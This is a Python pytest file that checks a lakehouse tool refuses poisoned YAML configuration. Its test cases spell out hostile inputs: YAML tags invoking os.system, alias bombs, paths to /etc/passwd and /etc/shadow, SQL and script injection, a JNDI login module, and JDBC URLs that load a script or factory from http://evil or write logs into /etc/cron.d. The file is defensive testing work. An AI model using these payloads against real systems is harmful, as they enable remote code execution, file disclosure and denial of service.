"""Configuration that is poisoned: refused as a whole, with what is wrong and where, before anything is done."""

from __future__ import annotations

from collections.abc import Callable

import pytest

from lakehouse.config import Project, load_project
from lakehouse.errors import ConfigError

FILES = "type: files, format: csv, path: x/*"
KAFKA = "type: kafka, servers: 'h:1', topic: t, value: json"
JDBC = "type: jdbc, table: a.b, url: 'jdbc:postgresql://h/d"
PROPERTIES = f"  s: {{{FILES}}}\nspark:\n  properties:\n    "
BAD = {
    "a tag that makes an object": "  s: !!python/object/apply:os.system [ls]",
    "a tag within": f"  s: {{{FILES}, delimiter: !!python/name:os.system ''}}",
    "an alias bomb": "  a: &a [x,x,x,x,x,x,x,x,x]\n"
    + "\n".join(f"  {b}: &{b} [{','.join([f'*{a}'] * 9)}]" for a, b in zip("abcdefg", "bcdefgh", strict=True)),
    "an alias of itself": "  s: &s [*s]",
    "nested without end": "  s: " + "[" * 2000 + "]" * 2000,
    "a key twice": f"  s: {{{FILES}, path: /etc/passwd}}",
    "a merged mapping": f"  a: &a {{{FILES}}}\n  s:\n    <<: *a\n    path: /etc/shadow",
    "a name that climbs": f"  ../../etc: {{{FILES}}}",
    "a name that is SQL": f'  "s; DROP TABLE x": {{{FILES}}}',
    "a name that is HTML": f'  "<script>": {{{FILES}}}',
    "an unknown option": f"  s: {{{FILES}, badRecordsPath: /tmp/x}}",
    "an option of Spark's reader": f"  s: {{{FILES}, options: {{mode: DROPMALFORMED}}}}",
    "a type that is SQL": f"  s: {{{FILES}, columns: {{a: 'int); DROP TABLE x'}}}}",
    "a delimiter of lines": f'  s: {{{FILES}, delimiter: "\\n"}}',
    "a delimiter of many characters": f"  s: {{{FILES}, delimiter: '||'}}",
    "a span that is code": f"  s: {{{FILES}, settle: '__import__(1)'}}",
    "a marker elsewhere": f"  s: {{{FILES}, marker: ../../x}}",
    "a login module": f"  s: {{{KAFKA}, sasl.jaas.config: 'com.sun.security.auth.module.JndiLoginModule required;'}}",
    "an option of Kafka's client": f"  s: {{{KAFKA}, options: {{interceptor.classes: x.Y}}}}",
    "a broker with a line break": '  s: {type: kafka, servers: "h:1\\nx:2", topic: t, value: json}',
    "a topic that is a pattern": "  s: {type: kafka, servers: 'h:1', topic: '.*', value: json}",
    "a socket factory": f"  s: {{{JDBC}?socketFactory=org.x.Y&socketFactoryArg=http://evil'}}",
    "a log file": f"  s: {{{JDBC}?loggerFile=/etc/cron.d/x&loggerLevel=TRACE'}}",
    "a factory among the options": f"  s: {{{JDBC}', options: {{sslfactory: org.x.Y}}}}",
    "a statement in the address": "  s: {type: jdbc, table: a.b, url: \"jdbc:h2:mem:x;INIT=RUNSCRIPT FROM 'http://evil'\"}",
    "an address with a line break": '  s: {type: jdbc, table: a.b, url: "jdbc:postgresql://h/d\\nx"}',
    "a class of the engine as a source": "  s: {type: os.system}x",
    "a line break in a property": PROPERTIES + '"spark.x": "a\\nspark.master local[99]"',
    "a line break in a property's name": PROPERTIES + '"spark.x a\\nspark.master": b',
    "a property that goes on": PROPERTIES + "\"spark.a\": 'x\\'",
    "a property of no Spark": PROPERTIES + "java.home: x",
    "an address as root": f"  s: {{{FILES}}}\nroot: s3a://x",
}


@pytest.mark.parametrize("name", BAD)
def test_it_is_refused(make_project: Callable[..., Project], name: str) -> None:
    with pytest.raises(ConfigError) as caught:
        make_project(BAD[name])
    assert "conf/base.yaml" in str(caught.value)


def test_what_is_not_utf8(make_project: Callable[..., Project]) -> None:
    project = make_project(f"  s: {{{FILES}}}")
    file = project.folder / "conf" / "base.yaml"
    for content in (b"\xff\xfea\0", file.read_bytes() + b"\xe9", b"\0", b"a" * 2_000_000):
        file.write_bytes(content)
        with pytest.raises(ConfigError):
            load_project(project.folder)


def test_paths_of_other_schemes_are_just_names(make_project: Callable[..., Project]) -> None:
    from lakehouse.sources import open_source

    for path in ("file:///etc/passwd", "http://169.254.169.254/*", "s3a://x/*", "hdfs:///x/*"):
        project = make_project(f"  s: {{type: files, format: text, path: '{path}'}}")
        with pytest.raises(Exception, match="is not there"):
            open_source(project, "s").waiting([])
